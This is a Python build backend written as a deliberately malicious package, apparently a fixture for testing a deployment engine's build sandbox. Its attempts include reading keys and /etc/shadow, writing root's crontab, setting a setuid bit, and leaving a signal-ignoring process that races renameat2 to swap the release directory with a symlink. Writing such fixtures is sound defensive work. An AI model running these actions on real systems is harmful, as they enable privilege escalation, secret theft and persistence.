"""The build backend of a project that means harm. It tries all that it can think of, and writes down what it could do.

It runs as the build user, in the directory of a release that is being built. `ways.json` there has what succeeded, and
`tries` what a process that it leaves behind counted; that one goes on for as long as it is let.
"""

from __future__ import annotations

import ctypes
import fcntl
import glob
import json
import os
import signal
import socket
import subprocess
import time
import zipfile
from pathlib import Path

EXCHANGE, NOT_FOLLOWED = 2, -100  # of renameat2(2): RENAME_EXCHANGE, AT_FDCWD
NEW_USER = 0x10000000  # of unshare(2)
LIBC = ctypes.CDLL(None, use_errno=True)
HERE = Path.cwd()
APP = HERE.parents[1]


def append(path: str) -> None:
    with open(path, "a") as file:
        file.write("# changed by the build\n")


def any_of(pattern: str) -> str:
    """One that is not ours."""
    return next(path for path in sorted(glob.glob(pattern, include_hidden=True)) if not path.startswith(f"{HERE}/"))


def connect(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)


def call(number: int) -> None:
    if number:
        raise OSError(ctypes.get_errno(), "")


def run(*command: str) -> None:
    subprocess.run(command, check=True, capture_output=True, timeout=10, stdin=subprocess.DEVNULL)


def lock(path: str) -> None:
    with open(path) as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)


def see_others() -> None:
    others = [path for path in glob.glob("/proc/[0-9]*") if os.stat(path).st_uid != os.getuid()]
    if not others:
        raise PermissionError


WAYS = {
    "change the code of another release": lambda: append(any_of(f"{APP}/releases/*/app/main.py")),
    "change a package of another release": lambda: append(any_of(f"{APP}/releases/*/.venv/lib/*/*/gunicorn/*.py")),
    "change the manifest of another release": lambda: append(any_of(f"{APP}/releases/*/.manifest.json")),
    "make a directory beside the releases": lambda: os.mkdir(f"{APP}/releases/evil"),
    "make a link beside the releases": lambda: os.symlink("/etc", f"{APP}/releases/aa1"),
    "rename its directory": lambda: os.rename(HERE, f"{HERE}.evil"),
    "delete another release": lambda: os.rename(any_of(f"{APP}/releases/*/app"), f"{HERE}/app.old"),
    "change the repository": lambda: append(f"{APP}/repo.git/config"),
    "add an object to the repository": lambda: os.mkdir(f"{APP}/repo.git/objects/ff"),
    "change a slot": lambda: append(f"{APP}/slots/blue/env"),
    "read a slot's variables": lambda: open(f"{APP}/slots/blue/env").read(),
    "read the app's variables": lambda: open(f"/etc/{APP.name}/env").read(),
    "read the app's data": lambda: os.listdir(f"/var/lib/{APP.name}"),
    "read the engine's settings": lambda: os.listdir("/etc/slipway"),
    "read a key": lambda: open(any_of(f"/etc/ssl/slipway/{APP.name}/*/privkey.pem")).read(),
    "see another app": lambda: os.listdir("/srv/other"),
    "read logs": lambda: os.listdir("/var/log"),
    "read the engine's state": lambda: os.listdir("/run/slipway"),
    "take the engine's lock": lambda: lock(f"/run/slipway/{APP.name}.lock"),
    "see processes of others": see_others,
    "read root's variables": lambda: open("/proc/1/environ").read(),
    "talk to the bus": lambda: connect("/run/dbus/system_bus_socket"),
    "talk to systemd": lambda: connect("/run/systemd/private"),
    "start a unit": lambda: run("systemd-run", "--user", "true"),
    "become root with sudo": lambda: run("sudo", "-n", "true"),
    "make a namespace": lambda: call(LIBC.unshare(NEW_USER)),
    "make a device": lambda: os.mknod("device", 0o600 | 0o020000, os.makedev(1, 3)),
    "link to a secret": lambda: os.link("/etc/shadow", "shadow"),
    "make a job for later": lambda: append("/var/spool/cron/crontabs/root"),
    "change a program": lambda: append("/usr/local/bin/slipway"),
    "change a unit": lambda: append(f"/etc/systemd/system/{APP.name}@.service"),
    "write to shared memory": lambda: append("/dev/shm/evil"),
    "write to the home of root": lambda: append("/root/.profile"),
    "set the user of a file": lambda: os.chmod(__file__, 0o4755),
}


def stay() -> None:
    """Leave a process behind that writes into the release, and tries to swap its directory, for as long as it lives."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    nothing = os.open(os.devnull, os.O_RDWR)
    for number in range(3):  # the build would wait for the end of its outputs
        os.dup2(nothing, number)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    with open("left_behind.py", "w") as code, open("tries", "w") as tries:
        os.symlink("/usr/local/bin", "bait")
        end = time.monotonic() + 120
        done = won = 0
        while time.monotonic() < end:
            for path in (str(HERE), str(HERE).removesuffix(".partial")):
                done += 1
                won += LIBC.renameat2(NOT_FOLLOWED, path.encode(), NOT_FOLLOWED, f"{HERE}/bait".encode(), EXCHANGE) == 0
            code.write("# written after the build\n")
            code.flush()
            tries.seek(0)
            tries.write(f"{done} {won}\n")
            tries.flush()


def build_wheel(directory: str, _settings: object = None, _metadata: object = None) -> str:
    could = []
    for way, attempt in WAYS.items():
        try:
            attempt()
        except (OSError, StopIteration, subprocess.SubprocessError):
            continue
        could.append(way)
    Path("ways.json").write_text(json.dumps({"tried": len(WAYS), "could": could}))
    stay()
    time.sleep(0.5)  # for what was left behind to begin
    Path("bait").unlink(missing_ok=True)  # a release with a link out of it would be refused
    name = "faults-0.1.0"
    with zipfile.ZipFile(f"{directory}/{name}-py3-none-any.whl", "w") as wheel:
        wheel.writestr(f"{name}.dist-info/METADATA", "Metadata-Version: 2.1\nName: faults\nVersion: 0.1.0\n")
        wheel.writestr(f"{name}.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{name}.dist-info/RECORD", "")
    return f"{name}-py3-none-any.whl"
